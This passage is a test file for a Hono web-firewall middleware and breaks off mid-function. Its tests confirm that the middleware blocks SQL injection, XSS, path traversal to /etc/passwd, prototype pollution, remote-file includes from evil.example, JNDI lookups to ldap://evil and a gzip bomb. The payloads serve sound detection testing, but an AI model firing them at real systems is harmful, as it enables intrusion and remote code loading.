import { once } from 'node:events'
import { connect } from 'node:net'
import { brotliCompressSync } from 'node:zlib'
import { getMiddlewareDescription } from '@palisade/shared/describe'
import { Hono, type MiddlewareHandler } from 'hono'
import { afterAll, beforeAll, describe, expect, it, onTestFinished, vi } from 'vitest'
import { compressed } from '../../test/compressed'
import { type Served, serveOnLoopback } from '../../test/node-server'
import { type Decision, installDecisions } from '../internal/outcomes/decisions'
import { settle } from '../internal/outcomes/settle'
import { MemoryRateLimitStore } from '../rate-limit/memory-store'
import { type ShieldOptions, shield } from './index'

/** `${jndi:` spelled without a template-looking literal. */
const JNDI = ['$', '{jndi:'].join('')

/**
 * An app behind shield (or `mw`), `decisions` after each request. Its routes are `routes`'s, by
 * default a handler echoing the body it read.
 */
function appWith(
  options?: ShieldOptions,
  mw?: MiddlewareHandler,
  routes: (app: Hono) => void = echo,
) {
  const app = new Hono()
  const seen: { decisions: Decision[] } = { decisions: [] }
  app.use(async (c, next) => {
    const record = installDecisions(c)
    seen.decisions = record.decisions
    await next()
    settle(record, c.error)
  })
  app.use(mw ?? shield(options))
  routes(app)
  const decision = () => seen.decisions.find((d) => d.middleware === 'shield')
  return { app, decision }
}

/** A handler echoing the body it read: the JSON value, or the text. */
function echo(app: Hono): void {
  app.all('*', async (c) => {
    const type = c.req.header('content-type') ?? ''
    if (type.includes('json')) {
      try {
        return c.json({ got: await c.req.json() })
      } catch {
        return c.text('bad json', 400)
      }
    }
    return c.text(await c.req.text())
  })
}

const post = (body: string, type?: string, headers: Record<string, string> = {}): RequestInit => ({
  method: 'POST',
  body,
  headers: type ? { 'content-type': type, ...headers } : headers,
})
const json = (value: unknown) => post(JSON.stringify(value), 'application/json')

describe('shield: what it reads', () => {
  it('lets a clean request through and records allow', async () => {
    const { app, decision } = appWith()
    const res = await app.request('/posts?q=hello', json({ title: "O'Brien's notes", n: 3 }))
    expect(res.status).toBe(200)
    expect(await res.json()).toEqual({ got: { title: "O'Brien's notes", n: 3 } })
    expect(decision()).toMatchObject({ middleware: 'shield', outcome: 'allow' })
  })

  it.each([
    ['query value', '/search?q=%27%20OR%201%3D1--', undefined, 'sqli', 'query:q'],
    ['query name', '/search?%3Cscript%3E=1', undefined, 'xss', 'query-name'],
    ['path', '/files/..%2f..%2fetc%2fpasswd', undefined, 'lfi', 'path'],
    ['scanner path', '/.env', undefined, 'scanner', 'path'],
    ['user agent', '/', { 'user-agent': 'sqlmap/1.7' }, 'scanner', 'header:user-agent'],
    [
      'referer header',
      '/',
      { referer: `https://x/${JNDI}ldap://evil/a}` },
      'java',
      'header:referer',
    ],
    ['cookie', '/', { cookie: 'theme=dark; q=%3Cscript%3Ealert(1)' }, 'xss', 'cookie:q'],
  ])(
    'refuses an attack in the %s with 403 attack_detected',
    async (_, url, headers, category, location) => {
      const { app, decision } = appWith()
      const res = await app.request(url, { headers })
      expect(res.status).toBe(403)
      expect(decision()).toMatchObject({
        outcome: 'reject',
        code: 'attack_detected',
        status: 403,
        category,
        location,
      })
    },
  )

  it.each([
    ['query', '/p?_CONF%5Bpath%5D=https://foo.bar', undefined, 'query:_CONF[path]'],
    [
      'form field',
      '/p',
      post('include=http%3A%2F%2Fevil.example%2Fx.txt', 'application/x-www-form-urlencoded'),
      'body/include',
    ],
    ['JSON key', '/p', json({ conf: { docroot: 'https://evil.example/' } }), 'body:/conf/docroot'],
    ['cookie', '/p', { headers: { cookie: 'basedir=ftp://evil.example/x' } }, 'cookie:basedir'],
  ])('refuses a URL under a file-path name in a %s as rfi', async (_, url, init, location) => {
    const { app, decision } = appWith()
    const res = await app.request(url, init)
    expect(res.status).toBe(403)
    expect(decision()).toMatchObject({ category: 'rfi', location })
  })

  it('lets a URL under a name that asks for one through', async () => {
    const { app } = appWith()
    const res = await app.request(
      '/p?root_url=https://git.example.com/',
      json({ redirect_uri: 'https://app.example.com/cb', path: 'https://example.com/docs' }),
    )
    expect(res.status).toBe(200)
  })

  it('says nothing in the response about which rule fired, and never records the payload', async () => {
    const { app, decision } = appWith()
    const res = await app.request('/c', json({ comment: "x' OR 1=1--" }))
    expect(res.status).toBe(403)
    const text = await res.text()
    expect(text).toBe('Forbidden')
    expect(JSON.stringify(decision())).not.toContain('OR 1=1')
    expect(decision()).toMatchObject({ category: 'sqli', location: 'body:/comment' })
  })

  it('walks JSON with pointers: nested values, array items, and keys as names', async () => {
    const { app, decision } = appWith()
    let res = await app.request('/', json({ a: [{ ok: 1 }, { b: 'see ../../etc/passwd' }] }))
    expect(res.status).toBe(403)
    expect(decision()).toMatchObject({ category: 'lfi', location: 'body:/a/1/b' })
    res = await app.request('/', post('{"user":{"__proto__":{"admin":true}}}', 'application/json'))
    expect(res.status).toBe(403)
    expect(decision()).toMatchObject({
      category: 'prototype-pollution',
      location: 'body-name:/user',
    })
    res = await app.request('/', json({ 'a/b~c': '<script>x</script>' }))
    expect(decision()).toMatchObject({ location: 'body:/a~1b~0c' })
  })

  it('reads urlencoded forms, multipart text fields and file names, XML and plain text', async () => {
    const { app, decision } = appWith()
    let res = await app.request(
      '/',
      post('name=ann&bio=%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'application/x-www-form-urlencoded'),
    )
    expect(res.status).toBe(403)
    expect(decision()).toMatchObject({ category: 'xss', location: 'body/bio' })

    const form = new FormData()
    form.append('title', 'fine')
    form.append('note', "1' or 1=1 --")
    res = await app.request('/', { method: 'POST', body: form })
    expect(res.status).toBe(403)
    expect(decision()).toMatchObject({ category: 'sqli', location: 'body:/note' })

    const upload = new FormData()
    upload.append('file', new Blob(['hello']), '../../etc/passwd')
    res = await app.request('/', { method: 'POST', body: upload })
    expect(res.status).toBe(403)
    expect(decision()).toMatchObject({ category: 'lfi', location: 'body-filename:/file' })

    res = await app.request('/', post(`<a><b x="${JNDI}ldap://e/x}">t</b></a>`, 'application/xml'))
    expect(res.status).toBe(403)
    expect(decision()).toMatchObject({ category: 'java', location: 'body' })

    res = await app.request('/', post('hello <script>alert(1)</script>', 'text/plain'))
    expect(res.status).toBe(403)
  })

  it('leaves the body readable by the handler, byte for byte', async () => {
    const { app } = appWith()
    const body = '{"title":"caf\u00e9 \ud83d\ude00","n":[1,2,3]}'
    const res = await app.request('/', post(body, 'application/json'))
    expect(await res.json()).toEqual({ got: JSON.parse(body) })
    const text = await app.request('/', post('plain words', 'text/plain'))
    expect(await text.text()).toBe('plain words')
    const form = await app.request('/', post('a=1&b=2', 'application/x-www-form-urlencoded'))
    expect(await form.text()).toBe('a=1&b=2')
  })

  it.each([
    [
      'a repeated header, its copies joined',
      'x-note',
      'hello',
      `https://x/${JNDI}ldap://evil/a}`,
      'java',
      'header:x-note',
    ],
    [
      'every copy of Set-Cookie',
      'set-cookie',
      'a=1',
      `https://x/${JNDI}ldap://evil/a}`,
      'java',
      'header:set-cookie',
    ],
    [
      'the cookies of every Cookie header',
      'cookie',
      'theme=dark',
      'q=%3Cscript%3Ealert(1)',
      'xss',
      'cookie:q',
    ],
  ])('reads %s', async (_, name, first, second, category, location) => {
    const { app, decision } = appWith()
    const headers = new Headers()
    headers.append(name, first)
    headers.append(name, second)
    const res = await app.request('/', { headers })
    expect(res.status).toBe(403)
    expect(decision()).toMatchObject({ category, location })
  })

  it('reads the cookies after the other headers', async () => {
    const { app, decision } = appWith()
    const res = await app.request('/', {
      headers: { cookie: 'q=%3Cscript%3Ealert(1)', 'x-note': `https://x/${JNDI}ldap://evil/a}` },
    })
    expect(res.status).toBe(403)
    expect(decision()).toMatchObject({ category: 'java', location: 'header:x-note' })
  })

  it('takes the declared body type from the Content-Type header, whatever its case', async () => {
    const { app, decision } = appWith()
    const res = await app.request(
      '/p',
      post('include=http%3A%2F%2Fevil.example%2Fx.txt', 'Application/X-WWW-Form-Urlencoded'),
    )
    expect(res.status).toBe(403)
    expect(decision()).toMatchObject({ category: 'rfi', location: 'body/include' })
  })

  it('does not read Authorization, API keys or signatures', async () => {
    const { app } = appWith()
    const res = await app.request('/', {
      headers: {
        authorization: "Bearer ' OR 1=1--",
        'x-api-key': '<script>',
        signature: 'sig1=:../../etc/passwd:',
      },
    })
    expect(res.status).toBe(200)
  })
})

describe('shield: attackers encode', () => {
  it('decodes a payload split across percent encodings and double encoding', async () => {
    const { app, decision } = appWith()
    expect((await app.request('/s?q=%3Cscr%69pt%3E')).status).toBe(403)
    expect((await app.request('/s?q=%253Cscript%253E')).status).toBe(403)
    expect(decision()).toMatchObject({ category: 'xss', location: 'query:q' })
  })

  it('checks every copy of a duplicated parameter, and the copies joined', async () => {
    const { app, decision } = appWith()
    let res = await app.request('/s?q=hello&q=%27%20or%201%3D1--')
    expect(res.status).toBe(403)
    expect(decision()).toMatchObject({ location: 'query:q' })
    // Neither half alone is the attack; joined by a comma (as some frameworks join them) it is.
    res = await app.request('/s?q=%3Cscr&q=ipt%3E')
    expect((await app.request('/s?q=%3Cscr')).status).toBe(200)
    expect((await app.request('/s?q=ipt%3E')).status).toBe(200)
    expect(res.status).toBe(200) // '<scr,ipt>' is not a script tag
    res = await app.request('/s?q=x&q=%3Cscript%3E')
    expect(res.status).toBe(403)
  })

  it('a lying content type: JSON sent as text/plain or as a form is still walked as JSON', async () => {
    const { app, decision } = appWith()
    let res = await app.request('/', post('{"q":"\\u003cscript\\u003e"}', 'text/plain'))
    expect(res.status).toBe(403)
    expect(decision()).toMatchObject({ location: 'body:/q' })
    expect(decision()?.cause).toContain('parsed as JSON')
    res = await app.request('/', post('{"q":"x\' OR 1=1--"}', 'application/x-www-form-urlencoded'))
    expect(res.status).toBe(403)
    res = await app.request('/', post('<script>alert(1)</script>', 'image/png'))
    expect(res.status).toBe(403)
  })

  it('a malformed JSON body is inspected as text, never a 500, and the decision says so', async () => {
    const { app, decision } = appWith()
    let res = await app.request('/', post('{"a": "<script>", oops', 'application/json'))
    expect(res.status).toBe(403)
    expect(decision()?.cause).toBe('body not valid JSON: inspected as text')
    res = await app.request('/', post('{"a": "fine", oops', 'application/json'))
    expect(res.status).toBe(400) // the handler's own answer: shield let it through
    expect(decision()).toMatchObject({
      outcome: 'allow',
      cause: 'body not valid JSON: inspected as text',
    })
    res = await app.request('/', post(`${'['.repeat(5000)}${']'.repeat(5000)}`, 'application/json'))
    expect(res.status).not.toBe(500)
    expect(decision()?.cause).toBe('body nested too deeply: inspected as text')
  })

  it('walks a body nested to the depth limit and names the place of a value at the bottom', async () => {
    const { app, decision } = appWith()
    // 1000 arrays deep (MAX_JSON_DEPTH), the innermost holding an object with the payload.
    const body = `${'['.repeat(999)}{"k":"<script>alert(1)</script>"}${']'.repeat(999)}`
    const res = await app.request('/', post(body, 'application/json'))
    expect(res.status).toBe(403)
    expect(decision()).toMatchObject({ category: 'xss', location: `body:${'/0'.repeat(999)}/k` })
  })

  it('a multipart body with a lying boundary is inspected as text', async () => {
    const { app, decision } = appWith()
    const res = await app.request(
      '/',
      post('--zzz\r\n<script>alert(1)</script>', 'multipart/form-data; boundary=other'),
    )
    expect(res.status).toBe(403)
    expect(decision()?.cause).toBe('body not valid multipart: inspected as text')
  })

  it('binary bodies of other types are not inspected, and the decision says so', async () => {
    const { app, decision } = appWith()
    const bytes = new Uint8Array(256).map((_, i) => (i * 131 + 7) % 256)
    const res = await app.request('/', {
      method: 'POST',
      body: bytes,
      headers: { 'content-type': 'application/octet-stream' },
    })
    expect(res.status).toBe(200)
    expect(decision()?.cause).toBe('binary body: not inspected')
  })
})

/** Whether this runtime's DecompressionStream has brotli (Node 22 and later: yes; Node 20: no). */
const decodesBrotli = (() => {
  try {
    new DecompressionStream('brotli' as CompressionFormat)
    return true
  } catch {
    return false
  }
})()

/** An app behind shield whose handler decodes a gzip body itself and answers what it says. */
const decodingApp = () =>
  appWith(undefined, undefined, (app) =>
    app.post('/decode', async (c) => {
      const body = c.req.raw.body as ReadableStream
      return c.text(await new Response(body.pipeThrough(new DecompressionStream('gzip'))).text())
    }),
  )

describe('shield: compressed bodies (Content-Encoding)', () => {
  const attack = JSON.stringify({ comment: "1' OR '1'='1" })
  const gzipped = (body: BodyInit, type = 'application/json', coding = 'gzip'): RequestInit => ({
    method: 'POST',
    body,
    headers: { 'content-type': type, 'content-encoding': coding },
  })

  it('decodes gzip and deflate and inspects the body as its type says', async () => {
    const { app, decision } = appWith()
    for (const [coding, format] of [
      ['gzip', 'gzip'],
      ['x-gzip', 'gzip'],
      ['deflate', 'deflate'],
      ['deflate', 'deflate-raw'],
    ] as const) {
      const res = await app.request(
        '/',
        gzipped(await compressed(attack, format), undefined, coding),
      )
      expect([coding, format, res.status]).toEqual([coding, format, 403])
      expect(decision()).toMatchObject({ category: 'sqli', location: 'body:/comment' })
    }
    const form = await compressed('q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'gzip')
    expect(
      (await app.request('/', gzipped(form, 'application/x-www-form-urlencoded'))).status,
    ).toBe(403)
    expect(decision()).toMatchObject({ category: 'xss', location: 'body/q' })
  })

  it('lets a clean compressed body through, the decision saying it was decoded, the bytes intact for the handler', async () => {
    const { app, decision } = decodingApp()
    const res = await app.request(
      '/decode',
      gzipped(await compressed('{"comment":"hello"}', 'gzip')),
    )
    expect(res.status).toBe(200)
    expect(await res.text()).toBe('{"comment":"hello"}')
    expect(decision()).toMatchObject({ outcome: 'allow', cause: 'body decoded from gzip' })
    // The attack the handler would have decoded never reaches it.
    const blocked = await app.request('/decode', gzipped(await compressed(attack, 'gzip')))
    expect(blocked.status).toBe(403)
  })

  it('decodes a stack of codings, the last applied first', async () => {
    const { app, decision } = appWith()
    const twice = new Uint8Array(
      await new Response(
        new Blob([await compressed(attack, 'deflate')])
          .stream()
          .pipeThrough(new CompressionStream('gzip')),
      ).arrayBuffer(),
    )
    const res = await app.request('/', gzipped(twice, undefined, 'deflate, gzip'))
    expect(res.status).toBe(403)
    expect(decision()).toMatchObject({ category: 'sqli' })
  })

  it('reads a multipart body after decoding it', async () => {
    const { app, decision } = appWith()
    const body =
      '--b\r\nContent-Disposition: form-data; name="note"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n'
    const res = await app.request(
      '/',
      gzipped(await compressed(body, 'gzip'), 'multipart/form-data; boundary=b'),
    )
    expect(res.status).toBe(403)
    expect(decision()).toMatchObject({ category: 'xss', location: 'body:/note' })
  })

  it('stops a body built to expand at maxInspectBytes, inspecting what came before', async () => {
    const { app, decision } = appWith({ maxInspectBytes: 4096 })
    const padded = `${'<script>alert(1)</script>'}${' '.repeat(32 * 2 ** 20)}`
    const bomb = await compressed(padded, 'gzip')
    expect(bomb.byteLength).toBeLessThan(64 * 1024)
    let res = await app.request('/', gzipped(bomb, 'text/plain'))
    expect(res.status).toBe(403)
    const quiet = await compressed(`${' '.repeat(32 * 2 ** 20)}<script>alert(1)</script>`, 'gzip')
    res = await app.request('/', gzipped(quiet, 'text/plain'))
    expect(res.status).toBe(200)
    expect(decision()?.cause).toBe('body decoded from gzip: its first 4096 bytes inspected')
  })

  // Node 22 and later, Bun and Deno decode brotli; Node 20 and Workers do not. These tests run
  // on Node 20 (`vitest run`) and Node 24 (test:node24); the runtime matrix covers the others.
  it('decodes br where the runtime decodes brotli, and says it did not where it does not', async () => {
    const { app, decision } = appWith()
    const brotli = (text: string) =>
      new Uint8Array(brotliCompressSync(new TextEncoder().encode(text)))
    const res = await app.request('/', gzipped(brotli(attack), undefined, 'br'))
    if (decodesBrotli) {
      expect(res.status).toBe(403)
      expect(decision()).toMatchObject({ category: 'sqli', cause: 'body decoded from br' })
      await app.request('/', gzipped(brotli('{"comment":"hello"}'), undefined, 'br'))
      // shield lets it through (the echo route cannot parse compressed bytes: its own 400).
      expect(decision()).toMatchObject({ outcome: 'allow', cause: 'body decoded from br' })
    } else {
      expect(res.status).toBe(400) // the echo route's: shield let it through
      expect(decision()).toMatchObject({
        outcome: 'allow',
        cause: 'body encoded br: not inspected',
      })
    }
  })

  it('says so, and lets the body through, where the coding is one the platform does not decode', async () => {
    const { app, decision } = appWith()
    for (const coding of ['compress', 'zstd']) {
      const res = await app.request('/', gzipped(attack, undefined, coding))
      expect(res.status).toBe(200)
      expect(decision()).toMatchObject({
        outcome: 'allow',
        cause: `body encoded ${coding}: not inspected`,
      })
    }
  })

  it('inspects bytes that are not in their declared coding as sent', async () => {
    const { app, decision } = appWith()
    let res = await app.request('/', gzipped(attack))
    expect(res.status).toBe(403)
    expect(decision()).toMatchObject({ category: 'sqli' })
    expect(decision()?.cause).toContain('body not valid gzip: inspected as sent')
    res = await app.request('/', gzipped('{"comment":"hello"}'))
    expect(res.status).toBe(200)
    expect(decision()?.cause).toBe('body not valid gzip: inspected as sent')
  })

  it('reads `identity` as no coding', async () => {
    const { app, decision } = appWith()
    const res = await app.request('/', gzipped(attack, undefined, 'identity'))
    expect(res.status).toBe(403)
    expect(decision()?.cause).toBeUndefined()
  })
})

describe('shield: maxInspectBytes', () => {
  it('inspects a larger body up to the cap, and the decision says so', async () => {
    const { app, decision } = appWith({ maxInspectBytes: 1024 })
    const filler = 'a'.repeat(2000)
    let res = await app.request('/', json({ a: filler, b: '<script>x</script>' }))
    expect(res.status).toBe(200)
    expect(decision()?.cause).toMatch(
      /^body over maxInspectBytes: first 1024 of \d+ characters inspected$/,
    )
    res = await app.request('/', json({ b: '<script>x</script>', a: filler }))
    expect(res.status).toBe(403)
    res = await app.request('/', post(`${filler} <script>`, 'text/plain'))
    expect(res.status).toBe(200)
    expect(decision()?.cause).toContain('first 1024 of 2009')
  })
})

describe("shield: uninspected: 'refuse'", () => {
  const filler = 'a'.repeat(2000)

  it('answers 413 for a body longer than maxInspectBytes, 403 where the part inspected holds an attack', async () => {
    const { app, decision } = appWith({ maxInspectBytes: 1024, uninspected: 'refuse' })
    let res = await app.request('/', json({ a: filler, b: 'hello' }))
    expect(res.status).toBe(413)
    expect(decision()).toMatchObject({ outcome: 'reject', code: 'body_too_large', status: 413 })
    expect(decision()?.cause).toMatch(/^body over maxInspectBytes: first 1024 of \d+ characters/)
    // The padding that used to carry an attack past the cap.
    res = await app.request('/', json({ a: filler, b: '<script>x</script>' }))
    expect(res.status).toBe(413)
    res = await app.request('/', json({ b: '<script>x</script>', a: filler }))
    expect(res.status).toBe(403)
    res = await app.request('/', post(`${filler} <script>`, 'text/plain'))
    expect(res.status).toBe(413)
    // Within the cap: inspected whole, as before.
    res = await app.request('/', json({ b: 'hello' }))
    expect(res.status).toBe(200)
    expect(decision()?.outcome).toBe('allow')
  })

  it('answers 413 for a compressed body that decodes longer than the cap', async () => {
    const { app, decision } = appWith({ maxInspectBytes: 1024, uninspected: 'refuse' })
    const res = await app.request('/', {
      method: 'POST',
      body: await compressed(`${filler} <script>`, 'gzip'),
      headers: { 'content-type': 'text/plain', 'content-encoding': 'gzip' },
    })
    expect(res.status).toBe(413)
    expect(decision()?.cause).toBe('body decoded from gzip: its first 1024 bytes inspected')
  })

  it('answers 415 with Accept-Encoding for a coding it does not decode here', async () => {
    const { app, decision } = appWith({ uninspected: 'refuse' })
    const res = await app.request('/', {
      method: 'POST',
      body: '{"c":"<script>x</script>"}',
      headers: { 'content-type': 'application/json', 'content-encoding': 'compress' },
    })
    expect(res.status).toBe(415)
    expect(res.headers.get('accept-encoding')).toBe(
      decodesBrotli ? 'gzip, deflate, br' : 'gzip, deflate',
    )
    expect(decision()).toMatchObject({
      code: 'unsupported_media_type',
      cause: 'body encoded compress: not inspected',
    })
    // A coding it decodes is inspected and answered as before.
    const gz = await app.request('/', {
      method: 'POST',
      body: await compressed('{"c":"hello"}', 'gzip'),
      headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
    })
    expect(decision()?.outcome).toBe('allow')
    expect(gz.status).toBe(400) // the echo route's: it does not decode gzip
  })

  it('records each refusal as dry-run in dry run, counts none toward a ban and tells no onDetect', async () => {
    const onDetect = vi.fn()
    const store = new MemoryRateLimitStore()
    const dry = appWith({ maxInspectBytes: 1024, uninspected: 'refuse', dryRun: true, onDetect })
    expect((await dry.app.request('/', json({ a: filler }))).status).toBe(200)
    expect(dry.decision()).toMatchObject({ outcome: 'dry-run', code: 'body_too_large' })
    const banned = appWith({
      maxInspectBytes: 1024,
      uninspected: 'refuse',
      onDetect,
      ban: { after: 1, store },
    })
    for (let i = 0; i < 3; i++) {
      expect((await banned.app.request('/', json({ a: filler }))).status).toBe(413)
    }
    expect((await banned.app.request('/', json({ b: 'hello' }))).status).toBe(200)
    expect(onDetect).not.toHaveBeenCalled()
  })

  it('describes its 413 and 415 to OpenAPI only when it can answer them, and checks the option', () => {
    const statuses = (mw: MiddlewareHandler) =>
      getMiddlewareDescription(mw)?.responses?.map((r) => r.status)
    expect(statuses(shield())).toEqual([403])
    expect(statuses(shield({ uninspected: 'refuse' }))).toEqual([403, 413, 415])
    const described = getMiddlewareDescription(shield({ uninspected: 'refuse' }))
    expect(described?.responses?.[2]?.headers?.map((h) => h.name)).toEqual(['Accept-Encoding'])
    expect(() => shield({ uninspected: 'block' as never })).toThrow(
      /shield: "uninspected" must be 'allow' or 'refuse'/,
    )
  })
})

describe('shield: options', () => {
  it('rules turn a category off', async () => {
    const { app } = appWith({ rules: { xss: false } })
    expect((await app.request('/?q=%3Cscript%3E')).status).toBe(200)
    expect((await app.request('/?q=%27%20OR%201%3D1')).status).toBe(403)
  })

  it('exempt paths and prefixes, or a function, pass uninspected (decision skip)', async () => {
    const { app, decision } = appWith({ exempt: ['/health', '/raw/*'] })
    expect((await app.request('/health?q=%3Cscript%3E')).status).toBe(200)
    expect(decision()?.outcome).toBe('skip')
    expect((await app.request('/raw/a?q=%3Cscript%3E')).status).toBe(200)
    expect((await app.request('/rawx?q=%3Cscript%3E')).status).toBe(403)
    const fn = appWith({ exempt: (c) => c.req.header('x-internal') === '1' })
    expect(
      (await fn.app.request('/?q=%3Cscript%3E', { headers: { 'x-internal': '1' } })).status,
    ).toBe(200)
    expect((await fn.app.request('/?q=%3Cscript%3E')).status).toBe(403)
  })

  it('fields.skip leaves a subtree alone; fields.inspect wins over it', async () => {
    const { app } = appWith({
      fields: { skip: ['/snippet', '/items/*/code'], inspect: ['/snippet/title'] },
    })
    const code = "SELECT * FROM t WHERE a='' OR 1=1--"
    expect((await app.request('/', json({ snippet: { body: code } }))).status).toBe(200)
    expect((await app.request('/', json({ items: [{ code }, { code }] }))).status).toBe(200)
    expect((await app.request('/', json({ items: [{ text: code }] }))).status).toBe(403)
    expect((await app.request('/', json({ snippet: { title: code } }))).status).toBe(403)
    expect(
      (
        await app.request(
          '/',
          post(`snippet=${encodeURIComponent(code)}`, 'application/x-www-form-urlencoded'),
        )
      ).status,
    ).toBe(200)
  })

  it('dry run lets everything through and records each would-be block', async () => {
    const onDetect = vi.fn()
    const { app, decision } = appWith({ dryRun: true, onDetect })
    const res = await app.request('/?q=%3Cscript%3E')
    expect(res.status).toBe(200)
    expect(decision()).toMatchObject({
      outcome: 'dry-run',
      code: 'attack_detected',
      status: 403,
      category: 'xss',
      location: 'query:q',
    })
    expect(onDetect).toHaveBeenCalledWith(
      { category: 'xss', location: 'query:q', dryRun: true },
      expect.anything(),
    )
  })

  it('onDetect hears each detection before the refusal', async () => {
    const seen: unknown[] = []
    const { app } = appWith({ onDetect: (d) => void seen.push(d) })
    await app.request('/', json({ comment: '<script>' }))
    expect(seen).toEqual([{ category: 'xss', location: 'body:/comment', dryRun: false }])
  })

  it.each([
    [{ paranoia: 3 }, 'shield: "paranoia" must be 1 or 2, got 3'],
    [{ rules: { sqlx: false } }, 'shield: "rules" has an unknown category "sqlx"'],
    [{ rules: { sqli: 'no' } }, 'shield: "rules.sqli" must be a boolean'],
    [{ exempt: ['health'] }, 'shield: "exempt" entry "health" must start with "/"'],
    [{ fields: { skip: ['snippet'] } }, 'shield: "fields" entry "snippet" must be a JSON pointer'],
    [{ fields: { skp: [] } }, 'unknown option "skp"'],
    [{ maxInspectBytes: 0 }, 'shield: "maxInspectBytes" must be a positive integer'],
    [{ ban: { after: 3 } }, 'shield: "ban.store" is required'],
    [
      { ban: { after: 0, store: new MemoryRateLimitStore() } },
      '"ban.after" must be a positive integer',
    ],
    [{ dryrun: true }, 'shield: unknown option "dryrun"'],
  ])('refuses bad options at construction: %j', (options, message) => {
    expect(() => shield(options as ShieldOptions)).toThrow(TypeError)
    expect(() => shield(options as ShieldOptions)).toThrow(message)
  })
})

describe('shield: repeat offenders', () => {
  it('bans a client after `after` detections, for durationMs, on clean requests too', async () => {
    const store = new MemoryRateLimitStore()
    const { app, decision } = appWith({
      ban: { after: 2, windowMs: 60_000, durationMs: 60_000, store },
    })
    const from = (ip: string) => ({ headers: { 'x-forwarded-for': ip } })
    expect((await app.request('/?q=%3Cscript%3E', from('203.0.113.9'))).status).toBe(403)
    expect((await app.request('/ok', from('203.0.113.9'))).status).toBe(200)
    expect((await app.request('/?q=%3Cscript%3E', from('203.0.113.9'))).status).toBe(403)
    expect(decision()?.cause).toBe('client banned')
    const banned = await app.request('/ok', from('203.0.113.9'))
    expect(banned.status).toBe(403)
    expect(await banned.text()).toBe('Forbidden')
    expect(decision()).toMatchObject({
      outcome: 'reject',
      location: 'ban',
      cause: 'client banned after repeated detections',
    })
    expect((await app.request('/ok', from('198.51.100.1'))).status).toBe(200)
  })

  it('a ban ends after durationMs', async () => {
    vi.useFakeTimers()
    try {
      const store = new MemoryRateLimitStore()
      const { app } = appWith({ ban: { after: 1, windowMs: 1_000, durationMs: 5_000, store } })
      expect((await app.request('/?q=%3Cscript%3E')).status).toBe(403)
      expect((await app.request('/ok')).status).toBe(403)
      vi.advanceTimersByTime(5_001)
      expect((await app.request('/ok')).status).toBe(200)
    } finally {
      vi.useRealTimers()
    }
  })

  it('a failing ban store bans nobody and still inspects', async () => {
    const warn = vi.spyOn(console, 'warn').mockImplementation(() => {})
    try {
      const store = {
        increment: async () => ({ count: 1, ttl: 1 }),
        consume: async () => {
          throw new Error('down')
        },
      }
      const { app } = appWith({ ban: { after: 1, store } })
      expect((await app.request('/ok')).status).toBe(200)
      expect((await app.request('/?q=%3Cscript%3E')).status).toBe(403)
      expect(warn).toHaveBeenCalled()
    } finally {
      warn.mockRestore()
    }
  })
})

describe('shield: remembered verdicts on names', () => {
  it('refuses an attacking key every time, and past the bound of remembered names', async () => {
    const { app, decision } = appWith()
    const many = Object.fromEntries(Array.from({ length: 600 }, (_, i) => [`field${i}`, 1]))
    for (let round = 0; round < 3; round++) {
      expect((await app.request('/', json(many))).status).toBe(200)
      const res = await app.request('/', json({ ...many, __proto__x: 1, 'a[__proto__]': 1 }))
      expect(res.status).toBe(403)
      expect(decision()).toMatchObject({ category: 'prototype-pollution' })
    }
  })
})

describe('shield: an app on another copy of hono', () => {
  /**
   * A second copy of hono's files in a folder of their own, as a monorepo or an undeduped install
   * gives: its requests keep the match under that copy's own symbol, which `hono/route` (imported
   * by shield from the first copy) cannot read.
   */
  async function otherHono(): Promise<{ hono: typeof import('hono'); remove: () => void }> {
    const { cpSync, mkdtempSync, rmSync } = await import('node:fs')
    const { tmpdir } = await import('node:os')
    const { dirname, join } = await import('node:path')
    const { fileURLToPath, pathToFileURL } = await import('node:url')
    const first = fileURLToPath(import.meta.resolve('hono'))
    const dist = dirname(first)
    const folder = mkdtempSync(join(tmpdir(), 'palisade-hono-copy-'))
    cpSync(dist, join(folder, 'dist'), { recursive: true })
    const hono = (await import(
      pathToFileURL(join(folder, 'dist', 'index.js')).href
    )) as typeof import('hono')
    expect(hono.Hono).not.toBe(Hono)
    return { hono, remove: () => rmSync(folder, { recursive: true, force: true }) }
  }

  it('still finds the route’s field hints (fields the schema pins down are not inspected)', async () => {
    const { withFieldHints } = await import('@palisade/shared/field-hints')
    const other = await otherHono()
    onTestFinished(other.remove)
    const app = new other.hono.Hono()
    app.use(shield())
    const pinned: MiddlewareHandler = withFieldHints(async (_c, next) => next(), { skip: ['/id'] })
    app.post('/orders', pinned, async (c) => c.json({ got: await c.req.json() }))
    const sqli = "1' OR 1=1--"
    const again = async (field: string) =>
      (await app.request('/orders', post(JSON.stringify({ [field]: sqli }), 'application/json')))
        .status
    // Twice each: the first request finds out the helper cannot read this copy's requests.
    for (let i = 0; i < 2; i++) {
      expect(await again('id')).toBe(200)
      expect(await again('note')).toBe(403)
    }
  })
})

describe('shield: over @hono/node-server', () => {
  // There the header walk reads the socket message's raw header list instead of making
  // node-server build an undici Headers (internal/http/header-entries.ts): the same pairs, in
  // the same order, so the same verdicts and locations.
  let served: Served
  const seen: { decisions: Decision[]; built: boolean[] } = { decisions: [], built: [] }
  const decision = () => seen.decisions.find((d) => d.middleware === 'shield')

  /** Whether node-server's request holds a built Headers (under one of its own symbols). */
  function headersBuilt(raw: Request): boolean {
    const r = raw as unknown as Record<symbol, unknown>
    return Object.getOwnPropertySymbols(raw).some((k) => r[k] instanceof Headers)
  }

  beforeAll(async () => {
    const app = new Hono()
    app.use(async (c, next) => {
      const record = installDecisions(c)
      seen.decisions = record.decisions
      const raw = c.req.raw
      await next()
      settle(record, c.error)
      seen.built.push(headersBuilt(raw))
    })
    app.use('/edited/*', async (c, next) => {
      c.req.raw.headers.set('x-added', `https://x/${JNDI}ldap://evil/a}`)
      await next()
    })
    app.use(shield())
    // Reads the body, not a header: nothing but shield could build the request's Headers.
    app.all('*', async (c) => {
      if (c.req.method === 'POST') {
        const body = await c.req.json().catch(() => undefined)
        return body === undefined ? c.text('bad json', 400) : c.text(`read ${body.length}`)
      }
      return c.text('ok')
    })
    served = await serveOnLoopback(app)
  })
  afterAll(() => served.close())

  /** `head` (request line and header lines) sent as written, over a socket of its own. */
  async function send(head: string, body = ''): Promise<number> {
    const socket = connect(Number(new URL(served.base).port), '127.0.0.1')
    await once(socket, 'connect')
    const length = body === '' ? '' : `\r\ncontent-length: ${body.length}`
